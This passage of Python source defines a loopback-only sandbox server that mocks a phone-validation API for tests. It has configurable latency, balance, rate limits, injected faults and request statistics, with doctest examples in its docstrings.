    """A running sandbox server (returned by :func:`serve`); a context manager.

    Example:
        >>> with serve(token="t", balance=10) as box:
        ...     box.url.startswith("http://127.0.0.1:"), box.stats().balance
        (True, 10)
    """

    def __init__(
        self,
        *,
        token: str,
        host: str,
        port: int,
        latency: float,
        balance: int | None,
        rate_limit: float | None,
        faults: Faults | None,
        seed: int,
        price: str | Decimal,
        log_limit: int | None,
        ssl_context: ssl.SSLContext | None = None,
    ) -> None:
        host = _loopback(host)
        self._ssl_context = ssl_context
        self.token = token
        self._state = _State(
            token, latency, balance, rate_limit, faults, seed, Decimal(str(price)), log_limit
        )
        self._stopping = threading.Event()
        self._state.pause = self._stopping.wait
        self._cls = _Server6 if ":" in host else _Server
        self._lock = threading.Lock()
        self._closed = False
        self._server: _Server | None = None
        self._thread: threading.Thread | None = None
        self.host = host
        self.port: int = port
        self._listen()
        shown = f"[{host}]" if ":" in host else host
        scheme = "http" if ssl_context is None else "https"
        self.url = f"{scheme}://{shown}:{self.port}"
        self._apply_reachability()

    def _listen(self) -> None:
        """Bind and serve (on the same port after the first time). Call with ``_lock`` held or
        from ``__init__``."""
        server = self._cls((self.host, self.port), self._state, self._stopping, self._ssl_context)
        self.port = server.server_address[1]
        thread = threading.Thread(
            target=server.serve_forever,
            kwargs={"poll_interval": 0.05},
            name=f"pd-hlr-sandbox-{self.port}",
            daemon=True,
        )
        thread.start()
        self._server, self._thread = server, thread

    def _unlisten(self) -> None:
        """Stop serving and close the listening socket and every open connection."""
        server, thread = self._server, self._thread
        if server is None:
            return
        server.shutdown()
        server.server_close()
        server.close_connections()
        if thread is not None:
            thread.join(timeout=5)

    def _apply_reachability(self) -> None:
        with self._lock:
            if self._closed:
                return
            unreachable = self._state.faults.unreachable
            listening = self._server is not None and self._server.socket.fileno() != -1
            if unreachable and listening:
                self._unlisten()
            elif not unreachable and not listening:
                self._listen()

    @property
    def endpoint(self) -> str:
        """The full URL of ``POST /api/validate/phone``.

        Example:
            >>> sb.endpoint.endswith("/api/validate/phone")
            True
        """
        return self.url + _spec.ENDPOINT_PATH

    def stats(self) -> SandboxStats:
        """A consistent snapshot of the counters.

        Example:
            >>> sb.stats().requests >= 0
            True
        """
        st = self._state
        with st.lock:
            return SandboxStats(
                st.requests,
                dict(st.charged),
                dict(st.received),
                dict(st.status_counts),
                dict(st.fault_counts),
                st.balance,
                st.connections,
                st.closed,
            )

    def log(self) -> list[RequestRecord]:
        """A copy of the request log (oldest first; the newest ``log_limit`` entries)."""
        with self._state.lock:
            return list(self._state.log)

    def configure(
        self,
        *,
        balance: int | None = _UNSET,
        latency: float = _UNSET,
        rate_limit: float | None = _UNSET,
        faults: Faults | None = _UNSET,
    ) -> None:
        """Change knobs live; only the ones given change (``balance=None``: unlimited).

        ``faults=Faults(unreachable=True)`` closes the listening socket (connections are
        refused); a later ``configure(faults=...)`` without it listens again on the same port.

        Example:
            >>> with serve(token="t") as box:
            ...     box.configure(balance=3, faults=Faults(error_503=0.5))
            ...     box.stats().balance
            3
        """
        with self._state.lock:
            self._state.set_knobs(latency, balance, rate_limit, faults)
        if faults is not _UNSET:
            self._apply_reachability()

    def reset_stats(self) -> None:
        """Zero the counters and the log (the balance stays)."""
        with self._state.lock:
            self._state.reset()
            self._state.window.clear()

    def close(self) -> None:
        """Stop serving, close the socket and every open connection, join the thread."""
        with self._lock:
            if self._closed:
                return
            self._closed = True
            self._stopping.set()
            self._unlisten()

    def __enter__(self) -> Sandbox:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def __repr__(self) -> str:
        return f"<Sandbox {self.url}>"


def serve(
    token: str = "test-token",
    port: int = 0,
    latency: float = 0.0,
    balance: int | None = None,
    rate_limit: float | None = None,
    faults: Faults | None = None,
    seed: int = 0,
    price: str | Decimal = _spec.PRICE_PER_LOOKUP,
    *,
    host: str = "127.0.0.1",
    log_limit: int | None = 100_000,
    ssl_context: ssl.SSLContext | None = None,
) -> Sandbox:
    """Start a sandbox in a background thread; use it as a context manager (or call ``close``).

    ``port=0`` picks a free port. ``host`` must be a loopback address (else ``ValueError``).
    ``price`` is what the 402 body quotes per lookup (the vendor's example by default).
    ``ssl_context``: a server-side :class:`ssl.SSLContext` (its certificate loaded) to serve
    HTTPS instead of HTTP; ``url`` then starts with ``https://`` (the tests' certificates come
    from ``trustme``).

    Example:
        >>> with serve(token="t", port=0) as box:
        ...     box.token
        't'
    """
    return Sandbox(
        token=token,
        host=host,
        port=port,
        latency=latency,
        balance=balance,
        rate_limit=rate_limit,
        faults=faults,
        seed=seed,
        price=price,
        log_limit=log_limit,
        ssl_context=ssl_context,
    )
